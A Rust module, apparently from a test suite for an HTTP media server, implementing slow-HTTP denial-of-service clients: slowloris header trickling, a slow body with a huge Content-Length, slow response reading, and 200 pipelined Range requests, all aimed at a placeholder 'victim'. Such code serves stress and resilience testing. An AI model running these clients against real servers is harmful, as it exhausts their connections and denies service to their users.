//! HTTP/1.1 clients that are slow on purpose (slowloris), or ask for everything at once.

use std::time::Duration;

use anyhow::{Result, bail};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::interval;

use super::Victim;

/// Time between two bytes.
const PACE: Duration = Duration::from_secs(1);
/// Requests that are sent at once.
const PIPELINED: usize = 200;

/// Sends a head, a byte a second.
pub async fn head(mut stream: TcpStream) -> Result<()> {
    stream.write_all(b"GET / HTTP/1.1\r\nHost: media.example\r\nX-Slow: ").await?;
    trickle(stream).await
}

/// Sends a body, a byte a second.
pub async fn body(mut stream: TcpStream, victim: &Victim) -> Result<()> {
    stream.write_all(request(victim, "Content-Length: 1000000\r\n").as_bytes()).await?;
    trickle(stream).await
}

/// Reads an answer, a hundred bytes a second.
pub async fn read(mut stream: TcpStream, victim: &Victim) -> Result<()> {
    stream.write_all(request(victim, "").as_bytes()).await?;
    let (mut pace, mut piece) = (interval(PACE), [0; 100]);
    while stream.read(&mut piece).await? > 0 {
        pace.tick().await;
    }
    Ok(())
}

/// Sends many requests at once, and reads what comes.
pub async fn pipelining(stream: TcpStream, victim: &Victim) -> Result<()> {
    let requests = request(victim, "Range: bytes=0-0\r\n").repeat(PIPELINED);
    let (mut read, mut write) = stream.into_split();
    let mut answers = [0; 16 * 1024];
    let reading = async {
        while read.read(&mut answers).await? > 0 {}
        Ok(())
    };
    tokio::try_join!(
        async {
            write.write_all(requests.as_bytes()).await?;
            write.shutdown().await
        },
        reading
    )?;
    Ok(())
}

async fn trickle(stream: TcpStream) -> Result<()> {
    let (mut read, mut write) = stream.into_split();
    let mut pace = interval(PACE);
    let mut answer = [0; 1024];
    loop {
        tokio::select! {
            _ = pace.tick() => write.write_all(b"a").await?,
            read = read.read(&mut answer) => if read? == 0 { bail!("the server has ended it") },
        }
    }
}

fn request(victim: &Victim, more: &str) -> String {
    let Victim { path, token, .. } = victim;
    format!("GET {path} HTTP/1.1\r\nHost: media.example\r\nAuthorization: Bearer {token}\r\n{more}\r\n")
}
